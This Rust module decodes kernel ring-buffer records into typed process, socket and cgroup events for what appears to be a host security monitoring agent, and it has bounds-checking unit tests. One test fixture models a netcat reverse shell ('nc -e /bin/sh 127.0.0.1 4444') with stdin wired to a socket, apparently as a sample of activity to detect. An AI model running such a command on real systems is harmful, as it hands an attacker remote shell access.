//! Bounds-checked decoding of ring-buffer records into typed [`Event`]s.
//!
//! Nothing here trusts the kernel's bytes: a short record, an unknown kind, a foreign schema
//! version or a length field past its buffer is a [`DecodeError`] (counted by the caller), never
//! a panic and never an out-of-bounds read.

use std::{
    mem::size_of,
    net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr},
};

use agent_common::{
    exec_flags, stdio_flags, CgroupRecord, ConnectRecord, EventHeader, EventKind, ExecHead, ExecRecord, ExitRecord, ForkRecord,
    RedirectRecord, StdioRaw, ARGV_MAX, CGROUP_PATH_MAX, EXE_BUF, NAME_READ_MAX, SCHEMA_VERSION,
};

use crate::event::{
    canonical_ip, classify, split_argv, CgroupCreated, Connect, Direction, Event, EventBody, Exec, ExeStorage, Exit, Fork,
    ProcessKey, RawStr, RedirectVia, SocketProto, Stdio, StdioRedirect,
};

const AF_UNIX: u16 = 1;
const AF_INET: u16 = 2;
const AF_INET6: u16 = 10;
const S_IFMT: u16 = 0o170000;
const S_IFSOCK: u16 = 0o140000;

/// Why a record was refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum DecodeError {
    /// Fewer bytes than the header or than the kind's layout.
    #[error("short record: {got} bytes, need {need}")]
    Short {
        /// Bytes present.
        got: usize,
        /// Bytes needed.
        need: usize,
    },
    /// A kind this agent does not know.
    #[error("unknown record kind {0}")]
    UnknownKind(u16),
    /// Written by programs of another schema version.
    #[error("record schema version {got}, agent speaks {SCHEMA_VERSION}")]
    Version {
        /// Version in the record.
        got: u16,
    },
    /// The header's size disagrees with the kind's layout.
    #[error("record size field {size} does not match kind {kind} ({expected} bytes)")]
    SizeMismatch {
        /// Kind.
        kind: u16,
        /// Size in the header.
        size: u32,
        /// Size of the layout.
        expected: usize,
    },
    /// A field holds a value outside its domain.
    #[error("bad field {field}: {value}")]
    BadField {
        /// Field name.
        field: &'static str,
        /// Offending value.
        value: u64,
    },
}

/// Copy a plain-data record out of `buf`, which must hold at least `size_of::<T>()` bytes.
fn read_record<T: Copy>(buf: &[u8]) -> Result<T, DecodeError> {
    if buf.len() < size_of::<T>() {
        return Err(DecodeError::Short { got: buf.len(), need: size_of::<T>() });
    }
    // SAFETY: length checked above; T is a #[repr(C)] plain-data record from agent-common for
    // which every bit pattern is valid; read_unaligned copes with any alignment.
    Ok(unsafe { std::ptr::read_unaligned(buf.as_ptr().cast::<T>()) })
}

/// Run `f` on `buf` viewed as a `T` record: in place when `buf` is aligned for `T` (ring-buffer
/// records are 8-byte aligned, so a 5 KiB exec record is not copied), else on a copy.
fn with_record<T: Copy, R>(buf: &[u8], f: impl FnOnce(&T) -> R) -> Result<R, DecodeError> {
    if buf.len() < size_of::<T>() {
        return Err(DecodeError::Short { got: buf.len(), need: size_of::<T>() });
    }
    if buf.as_ptr().align_offset(std::mem::align_of::<T>()) == 0 {
        // SAFETY: length and alignment checked; T is a #[repr(C)] plain-data record from
        // agent-common for which every bit pattern is valid, and `buf` outlives the borrow.
        Ok(f(unsafe { &*buf.as_ptr().cast::<T>() }))
    } else {
        Ok(f(&read_record::<T>(buf)?))
    }
}

/// Decode one ring-buffer record.
pub fn decode(buf: &[u8]) -> Result<Event, DecodeError> {
    let header: EventHeader = read_record(buf)?;
    if header.version != SCHEMA_VERSION {
        return Err(DecodeError::Version { got: header.version });
    }
    let kind = EventKind::from_u16(header.kind).ok_or(DecodeError::UnknownKind(header.kind))?;
    let expected = match kind {
        // Exec records are as long as what they hold: the head, then both paths and argv.
        EventKind::Exec => {
            let size = header.size as usize;
            if !(size_of::<ExecHead>()..=size_of::<ExecRecord>()).contains(&size) {
                return Err(DecodeError::SizeMismatch { kind: header.kind, size: header.size, expected: size_of::<ExecHead>() });
            }
            if buf.len() < size {
                return Err(DecodeError::Short { got: buf.len(), need: size });
            }
            size
        }
        EventKind::Fork => size_of::<ForkRecord>(),
        EventKind::Exit => size_of::<ExitRecord>(),
        EventKind::StdioRedirect => size_of::<RedirectRecord>(),
        EventKind::Connect => size_of::<ConnectRecord>(),
        EventKind::Cgroup => size_of::<CgroupRecord>(),
    };
    if header.size as usize != expected {
        return Err(DecodeError::SizeMismatch { kind: header.kind, size: header.size, expected });
    }
    let body = match kind {
        EventKind::Exec => {
            let tail = &buf[size_of::<ExecHead>()..expected];
            EventBody::Exec(with_record::<ExecHead, _>(buf, |h| decode_exec(h, tail))??)
        }
        EventKind::Fork => {
            let r: ForkRecord = read_record(buf)?;
            EventBody::Fork(Fork { parent: ProcessKey::from_boot_ns(r.ppid, r.parent_start_boot_ns) })
        }
        EventKind::Exit => {
            let r: ExitRecord = read_record(buf)?;
            EventBody::Exit(Exit { code: r.exit_code })
        }
        EventKind::StdioRedirect => {
            let r: RedirectRecord = read_record(buf)?;
            let via = agent_common::RedirectVia::from_u16(r.via)
                .ok_or(DecodeError::BadField { field: "via", value: r.via.into() })?;
            if r.fd > 2 {
                return Err(DecodeError::BadField { field: "fd", value: r.fd.into() });
            }
            EventBody::StdioRedirect(StdioRedirect {
                via: match via {
                    agent_common::RedirectVia::Dup => RedirectVia::Dup,
                    agent_common::RedirectVia::Dup2 => RedirectVia::Dup2,
                    agent_common::RedirectVia::Dup3 => RedirectVia::Dup3,
                    agent_common::RedirectVia::Connect => RedirectVia::Connect,
                    agent_common::RedirectVia::Fcntl => RedirectVia::Fcntl,
                    agent_common::RedirectVia::Use => RedirectVia::Use,
                },
                fd: r.fd as u8,
                old_fd: r.old_fd,
                target: decode_stdio(&r.target),
            })
        }
        EventKind::Connect => {
            let r: ConnectRecord = read_record(buf)?;
            let direction = match r.direction {
                agent_common::connect_direction::OUTBOUND => Direction::Outbound,
                agent_common::connect_direction::INBOUND => Direction::Inbound,
                other => return Err(DecodeError::BadField { field: "direction", value: other.into() }),
            };
            EventBody::Connect(Connect { direction, socket: decode_stdio(&r.socket) })
        }
        EventKind::Cgroup => {
            let r: CgroupRecord = read_record(buf)?;
            let len = usize::from(r.path_len);
            if len >= CGROUP_PATH_MAX {
                return Err(DecodeError::BadField { field: "path_len", value: len as u64 });
            }
            EventBody::CgroupCreated(CgroupCreated { path: RawStr::from(&r.path[..len]) })
        }
    };
    Ok(Event {
        ts_boot_ns: header.ts_boot_ns,
        process: ProcessKey::from_boot_ns(header.tgid, header.start_boot_ns),
        tid: header.pid,
        cgroup_id: header.cgroup_id,
        body,
    })
}

/// An exec record's head and its tail: executable path, filename and argv, back to back, each
/// exactly as long as the head says, together exactly the tail.
fn decode_exec(r: &ExecHead, tail: &[u8]) -> Result<Exec, DecodeError> {
    let exe_len = usize::from(r.exe_len);
    if exe_len > EXE_BUF || exe_len > tail.len() {
        return Err(DecodeError::BadField { field: "exe_len", value: exe_len as u64 });
    }
    let (exe, rest) = tail.split_at(exe_len);
    let filename_len = usize::from(r.filename_len);
    if filename_len > NAME_READ_MAX || filename_len > rest.len() {
        return Err(DecodeError::BadField { field: "filename_len", value: filename_len as u64 });
    }
    let (filename, argv) = rest.split_at(filename_len);
    let argv_len = usize::from(r.argv_len);
    if argv_len > ARGV_MAX || argv_len != argv.len() {
        return Err(DecodeError::BadField { field: "argv_len", value: argv_len as u64 });
    }
    let (argv, argv_truncated) = split_argv(argv, r.flags & exec_flags::ARGV_TRUNCATED != 0);
    let exe = join_components(exe);
    let exe_unreadable = r.flags & exec_flags::EXE_UNREADABLE != 0 || exe.is_empty();
    // Usually the same path (execve given the absolute path): then one allocation for both.
    let name = until_nul(filename);
    let filename = if name == exe.as_bytes() { exe.clone() } else { RawStr::from(name) };
    Ok(Exec {
        parent: ProcessKey::from_boot_ns(r.ppid, r.parent_start_boot_ns),
        uid: r.uid,
        gid: r.gid,
        pid_ns: r.pid_ns,
        comm: RawStr::from(until_nul(&r.comm)),
        exe: if exe_unreadable { filename.clone() } else { exe },
        filename,
        exe_truncated: r.flags & exec_flags::EXE_TRUNCATED != 0 || exe_unreadable,
        exe_storage: ExeStorage {
            in_memory_fs: r.flags & exec_flags::EXE_IN_MEMORY_FS != 0,
            unlinked: r.flags & exec_flags::EXE_UNLINKED != 0,
        },
        argv,
        argv_truncated,
        stdio: [decode_stdio(&r.stdio[0]), decode_stdio(&r.stdio[1]), decode_stdio(&r.stdio[2])],
    })
}

fn until_nul(b: &[u8]) -> &[u8] {
    match b.iter().position(|&c| c == 0) {
        Some(i) => &b[..i],
        None => b,
    }
}

/// Join path components written leaf first, each NUL-terminated, into an absolute path. The
/// path is exactly as long as the components with their terminators: it is put together in a
/// buffer on the stack and allocated once, at its size.
pub fn join_components(bytes: &[u8]) -> RawStr {
    let mut path = [0u8; EXE_BUF + 1];
    let mut len = 0;
    for part in bytes.rsplit(|&b| b == 0).filter(|p| !p.is_empty()) {
        let Some(dst) = path.get_mut(len..len + 1 + part.len()) else { break };
        dst[0] = b'/';
        dst[1..].copy_from_slice(part);
        len += 1 + part.len();
    }
    RawStr::from(&path[..len])
}

/// Turn what the kernel saw at an fd into a [`Stdio`].
pub fn decode_stdio(raw: &StdioRaw) -> Stdio {
    if raw.mode == 0 {
        return Stdio::Closed;
    }
    if raw.mode & S_IFMT != S_IFSOCK {
        return match classify(raw.mode, raw.ino, raw.rdev) {
            Some(Stdio::Pipe { ino, .. }) => Stdio::Pipe { ino, named: raw.flags & stdio_flags::NAMED_FIFO != 0 },
            Some(s) => s,
            None => Stdio::Other { mode: raw.mode, rdev: raw.rdev },
        };
    }
    let proto = match raw.sock_type {
        1 => SocketProto::Tcp,
        2 => SocketProto::Udp,
        3 => SocketProto::Raw,
        _ => SocketProto::Other,
    };
    match raw.family {
        AF_INET => {
            let ip = |a: &[u8; 16]| IpAddr::V4(Ipv4Addr::new(a[0], a[1], a[2], a[3]));
            Stdio::inet(
                proto,
                SocketAddr::new(ip(&raw.local_addr), raw.local_port),
                SocketAddr::new(ip(&raw.remote_addr), raw.remote_port),
                raw.ino,
            )
        }
        AF_INET6 => {
            let ip = |a: &[u8; 16]| canonical_ip(IpAddr::V6(Ipv6Addr::from(*a)));
            Stdio::inet(
                proto,
                SocketAddr::new(ip(&raw.local_addr), raw.local_port),
                SocketAddr::new(ip(&raw.remote_addr), raw.remote_port),
                raw.ino,
            )
        }
        AF_UNIX => Stdio::Unix { ino: raw.ino },
        family => Stdio::OtherSocket { family, ino: raw.ino },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn as_bytes<T: Copy>(v: &T) -> Vec<u8> {
        // SAFETY: test helper over plain-data records.
        unsafe { std::slice::from_raw_parts((v as *const T).cast::<u8>(), size_of::<T>()) }.to_vec()
    }

    fn header(kind: EventKind, size: usize) -> EventHeader {
        EventHeader {
            kind: kind as u16,
            version: SCHEMA_VERSION,
            size: size as u32,
            ts_boot_ns: 5_000_000_000,
            pid: 4242,
            tgid: 4242,
            start_boot_ns: 1_234_560_000_000,
            cgroup_id: 777,
        }
    }

    /// An exec record as the kernel sends it: the head, then executable path, filename and
    /// argv packed back to back.
    #[derive(Clone)]
    struct ExecParts {
        head: ExecHead,
        filename: Vec<u8>,
        exe: Vec<u8>,
        argv: Vec<u8>,
    }

    impl ExecParts {
        /// The head as the kernel sends it: lengths and size set from the parts.
        fn sized_head(&self) -> ExecHead {
            let mut h = self.head;
            h.filename_len = self.filename.len() as u16;
            h.exe_len = self.exe.len() as u16;
            h.argv_len = self.argv.len() as u16;
            h.header.size = (size_of::<ExecHead>() + self.filename.len() + self.exe.len() + self.argv.len()) as u32;
            h
        }

        /// The bytes sent, with the head's lengths and size set from the parts.
        fn bytes(&self) -> Vec<u8> {
            ExecParts { head: self.sized_head(), ..self.clone() }.raw()
        }

        /// The head exactly as it is (lengths and size untouched), then the parts.
        fn raw(&self) -> Vec<u8> {
            let mut b = as_bytes(&self.head);
            b.extend_from_slice(&self.exe);
            b.extend_from_slice(&self.filename);
            b.extend_from_slice(&self.argv);
            b
        }
    }

    fn exec_record() -> ExecParts {
        // SAFETY: all-zero is a valid value for this plain-data record.
        let mut head: ExecHead = unsafe { std::mem::zeroed() };
        head.header = header(EventKind::Exec, 0);
        head.ppid = 1;
        head.parent_start_boot_ns = 10_000_000;
        head.uid = 1000;
        head.gid = 1000;
        head.comm[..2].copy_from_slice(b"nc");
        head.stdio[0] = StdioRaw {
            mode: S_IFSOCK | 0o777,
            family: AF_INET,
            sock_type: 1,
            local_port: 40000,
            remote_port: 4444,
            ino: 99,
            local_addr: [127, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
            remote_addr: [127, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
            ..Default::default()
        };
        head.stdio[1] = StdioRaw { mode: 0o010600, ino: 55, ..Default::default() };
        head.stdio[2] = StdioRaw { mode: 0o020620, rdev: (136 << 20) | 3, ..Default::default() };
        ExecParts {
            head,
            filename: b"/bin/nc".to_vec(),
            exe: b"nc.traditional\0bin\0usr\0".to_vec(),
            argv: b"nc\0-e\0/bin/sh\x00127.0.0.1\x004444\0".to_vec(),
        }
    }

    #[test]
    fn decodes_exec_field_by_field() {
        let ev = decode(&exec_record().bytes()).unwrap();
        assert_eq!(ev.process, ProcessKey { pid: 4242, start: 123_456 });
        assert_eq!(ev.cgroup_id, 777);
        assert_eq!(ev.ts_boot_ns, 5_000_000_000);
        let EventBody::Exec(e) = ev.body else { panic!("not exec") };
        assert_eq!(e.parent, ProcessKey { pid: 1, start: 1 });
        assert_eq!(e.exe.as_bytes(), b"/usr/bin/nc.traditional");
        assert_eq!(e.filename.as_bytes(), b"/bin/nc");
        assert_eq!(e.comm.as_bytes(), b"nc");
        let argv: Vec<_> = e.argv.iter().map(|a| a.to_string()).collect();
        assert_eq!(argv, ["nc", "-e", "/bin/sh", "127.0.0.1", "4444"]);
        assert!(!e.argv_truncated && !e.exe_truncated);
        assert_eq!(
            e.stdio[0],
            Stdio::inet(SocketProto::Tcp, "127.0.0.1:40000".parse().unwrap(), "127.0.0.2:4444".parse().unwrap(), 99)
        );
        assert_eq!(e.stdio[1], Stdio::Pipe { ino: 55, named: false });
        assert_eq!(e.stdio[2], Stdio::Tty { rdev: (136 << 20) | 3 });
    }

    #[test]
    fn short_and_unknown_records_are_errors() {
        let bytes = exec_record().bytes();
        for len in [0, 1, 39, 40, 41, bytes.len() - 1] {
            assert!(matches!(decode(&bytes[..len]), Err(DecodeError::Short { .. })), "len {len}");
        }
        let mut h = header(EventKind::Fork, size_of::<ForkRecord>());
        h.kind = 999;
        assert_eq!(decode(&as_bytes(&h)), Err(DecodeError::UnknownKind(999)));
        let mut h = header(EventKind::Exit, size_of::<ExitRecord>());
        h.version = SCHEMA_VERSION + 1;
        assert!(matches!(decode(&as_bytes(&h)), Err(DecodeError::Version { .. })));
        let mut r = ExitRecord { header: header(EventKind::Exit, 12345), ..Default::default() };
        assert!(matches!(decode(&as_bytes(&r)), Err(DecodeError::SizeMismatch { .. })));
        r.header.size = size_of::<ExitRecord>() as u32;
        r.exit_code = 256;
        assert_eq!(decode(&as_bytes(&r)).unwrap().body, EventBody::Exit(Exit { code: 256 }));
    }

    #[test]
    fn bad_lengths_are_refused_not_read() {
        let mut r = exec_record();
        r.head = r.sized_head();
        r.head.argv_len = (ARGV_MAX + 1) as u16;
        assert!(matches!(decode(&r.raw()), Err(DecodeError::BadField { field: "argv_len", .. })));
        let mut r = exec_record();
        r.head = r.sized_head();
        r.head.exe_len = u16::MAX;
        assert!(matches!(decode(&r.raw()), Err(DecodeError::BadField { field: "exe_len", .. })));
        let mut r = exec_record();
        r.head = r.sized_head();
        r.head.filename_len = (NAME_READ_MAX + 1) as u16;
        assert!(matches!(decode(&r.raw()), Err(DecodeError::BadField { field: "filename_len", .. })));
        let mut redirect = RedirectRecord {
            header: header(EventKind::StdioRedirect, size_of::<RedirectRecord>()),
            via: 2,
            fd: 7,
            ..Default::default()
        };
        assert!(matches!(decode(&as_bytes(&redirect)), Err(DecodeError::BadField { field: "fd", .. })));
        redirect.fd = 0;
        redirect.via = 77;
        assert!(matches!(decode(&as_bytes(&redirect)), Err(DecodeError::BadField { field: "via", .. })));
    }

    /// The kernel sends the head and exactly the bytes of both paths and argv: such a record
    /// decodes; a size that does not add up, or outside head..whole, is refused.
    #[test]
    fn exec_records_are_as_long_as_what_they_hold() {
        let r = exec_record();
        let bytes = r.bytes();
        let sent = bytes.len();
        assert_eq!(sent, size_of::<ExecHead>() + 23 + 7 + 29);
        let EventBody::Exec(e) = decode(&bytes).unwrap().body else { panic!() };
        assert_eq!((e.filename.as_bytes(), e.exe.as_bytes(), e.argv.len()), (&b"/bin/nc"[..], &b"/usr/bin/nc.traditional"[..], 5));
        // Too little sent for the lengths, and more sent than they say.
        let mut head = r.sized_head();
        head.header.size = (sent - 1) as u32;
        let mut cut = as_bytes(&head);
        cut.extend_from_slice(&bytes[size_of::<ExecHead>()..sent - 1]);
        assert!(matches!(decode(&cut), Err(DecodeError::BadField { field: "argv_len", .. })));
        head.header.size = (sent + 1) as u32;
        let mut long = as_bytes(&head);
        long.extend_from_slice(&bytes[size_of::<ExecHead>()..]);
        long.push(0);
        assert!(matches!(decode(&long), Err(DecodeError::BadField { field: "argv_len", .. })));
        // No paths and no argv at all is a valid record.
        let bare = ExecParts { filename: Vec::new(), exe: Vec::new(), argv: Vec::new(), ..r.clone() };
        let EventBody::Exec(e) = decode(&bare.bytes()).unwrap().body else { panic!() };
        assert!(e.argv.is_empty() && e.exe.is_empty());
        // Sizes outside the head..whole range, and a buffer shorter than its size.
        for size in [size_of::<ExecHead>() - 1, size_of::<ExecRecord>() + 1] {
            let mut bad = r.sized_head();
            bad.header.size = size as u32;
            let mut b = as_bytes(&bad);
            b.resize(size_of::<ExecRecord>() + 8, 0);
            assert!(matches!(decode(&b), Err(DecodeError::SizeMismatch { .. })), "size {size}");
        }
        assert!(matches!(decode(&bytes[..sent - 1]), Err(DecodeError::Short { .. })));
    }

    #[test]
    fn non_utf8_argv_and_paths_survive_and_round_trip() {
        let mut r = exec_record();
        r.argv = b"/tmp/\xff\xfe\0-x\0".to_vec();
        r.exe = b"b\xc3\x28d\0tmp\0".to_vec();
        let ev = decode(&r.bytes()).unwrap();
        let EventBody::Exec(e) = &ev.body else { panic!() };
        assert_eq!(e.argv[0].as_bytes(), b"/tmp/\xff\xfe");
        assert_eq!(e.exe.as_bytes(), b"/tmp/b\xc3\x28d");
        let json = serde_json::to_string(&ev).unwrap();
        let back: Event = serde_json::from_str(&json).unwrap();
        assert_eq!(back, ev);
    }

    #[test]
    fn argv_truncation_by_bytes_and_count() {
        let mut r = exec_record();
        r.head.flags = exec_flags::ARGV_TRUNCATED;
        let EventBody::Exec(e) = decode(&r.bytes()).unwrap().body else { panic!() };
        assert!(e.argv_truncated);

        let many: Vec<u8> = (0..40).flat_map(|i| format!("a{i}\0").into_bytes()).collect();
        let (argv, cut) = split_argv(&many, false);
        assert_eq!(argv.len(), crate::event::ARGV_MAX_ARGS);
        assert!(cut);
        assert_eq!(argv[31].as_bytes(), b"a31");
        let (argv, cut) = split_argv(b"only\0", false);
        assert_eq!((argv.len(), cut), (1, false));
        // Empty arguments in the middle are real arguments (`printf ''`).
        let (argv, _) = split_argv(b"printf\0\0x\0", false);
        assert_eq!(argv.len(), 3);
    }

    #[test]
    fn unreadable_exe_falls_back_to_filename() {
        let mut r = exec_record();
        r.exe.clear();
        r.head.flags = exec_flags::EXE_UNREADABLE;
        let EventBody::Exec(e) = decode(&r.bytes()).unwrap().body else { panic!() };
        assert_eq!(e.exe.as_bytes(), b"/bin/nc");
        assert!(e.exe_truncated);
    }

    #[test]
    fn ipv6_and_v4_mapped_sockets() {
        let mut raw = StdioRaw { mode: S_IFSOCK, family: AF_INET6, sock_type: 1, ..Default::default() };
        raw.remote_addr = Ipv6Addr::LOCALHOST.octets();
        raw.remote_port = 22;
        assert_eq!(decode_stdio(&raw).remote(), Some("[::1]:22".parse().unwrap()));
        raw.remote_addr = Ipv4Addr::new(10, 1, 2, 3).to_ipv6_mapped().octets();
        assert_eq!(decode_stdio(&raw).remote(), Some("10.1.2.3:22".parse().unwrap()));
        raw.family = AF_UNIX;
        assert_eq!(decode_stdio(&raw), Stdio::Unix { ino: 0 });
        assert_eq!(decode_stdio(&StdioRaw::default()), Stdio::Closed);
    }

    #[test]
    fn cgroup_records_carry_the_new_cgroup_and_its_path() {
        let path = b"/kubepods/burstable/pod0b7e/4f3c";
        let mut r = CgroupRecord {
            header: header(EventKind::Cgroup, size_of::<CgroupRecord>()),
            path_len: path.len() as u16,
            _pad: [0; 3],
            path: [0; CGROUP_PATH_MAX],
        };
        r.header.cgroup_id = 77;
        r.path[..path.len()].copy_from_slice(path);
        let ev = decode(&as_bytes(&r)).unwrap();
        assert_eq!(ev.cgroup_id, 77);
        assert_eq!(ev.body, EventBody::CgroupCreated(CgroupCreated { path: RawStr::from(&path[..]) }));
        let json = serde_json::to_string(&ev).unwrap();
        assert_eq!(serde_json::from_str::<Event>(&json).unwrap(), ev);
        r.path_len = CGROUP_PATH_MAX as u16;
        assert!(matches!(decode(&as_bytes(&r)), Err(DecodeError::BadField { field: "path_len", .. })));
    }

    #[test]
    fn connect_records_and_the_use_redirect() {
        let mut raw = StdioRaw { mode: S_IFSOCK, family: AF_INET, sock_type: 1, local_port: 40000, remote_port: 4444, ..Default::default() };
        raw.local_addr[..4].copy_from_slice(&[10, 0, 0, 5]);
        raw.remote_addr[..4].copy_from_slice(&[192, 0, 2, 9]);
        let mut r = ConnectRecord {
            header: header(EventKind::Connect, size_of::<ConnectRecord>()),
            direction: agent_common::connect_direction::OUTBOUND,
            socket: raw,
            ..Default::default()
        };
        let ev = decode(&as_bytes(&r)).unwrap();
        let EventBody::Connect(c) = &ev.body else { panic!("{ev:?}") };
        assert_eq!(c.direction, Direction::Outbound);
        assert_eq!(c.socket.remote(), Some("192.0.2.9:4444".parse().unwrap()));
        let json = serde_json::to_string(&ev).unwrap();
        assert!(json.contains(r#""type":"connect","direction":"outbound""#), "{json}");
        assert_eq!(serde_json::from_str::<Event>(&json).unwrap(), ev);
        r.direction = agent_common::connect_direction::INBOUND;
        assert!(matches!(decode(&as_bytes(&r)).unwrap().body, EventBody::Connect(Connect { direction: Direction::Inbound, .. })));
        r.direction = 9;
        assert!(matches!(decode(&as_bytes(&r)), Err(DecodeError::BadField { field: "direction", .. })));
        r.direction = 1;
        r.header.size -= 8;
        assert!(matches!(decode(&as_bytes(&r)), Err(DecodeError::SizeMismatch { .. })));

        let redirect = RedirectRecord {
            header: header(EventKind::StdioRedirect, size_of::<RedirectRecord>()),
            via: agent_common::RedirectVia::Use as u16,
            fd: 0,
            old_fd: -1,
            target: raw,
        };
        let EventBody::StdioRedirect(s) = decode(&as_bytes(&redirect)).unwrap().body else { panic!() };
        assert_eq!((s.via, s.fd, s.old_fd), (RedirectVia::Use, 0, -1));
    }
}
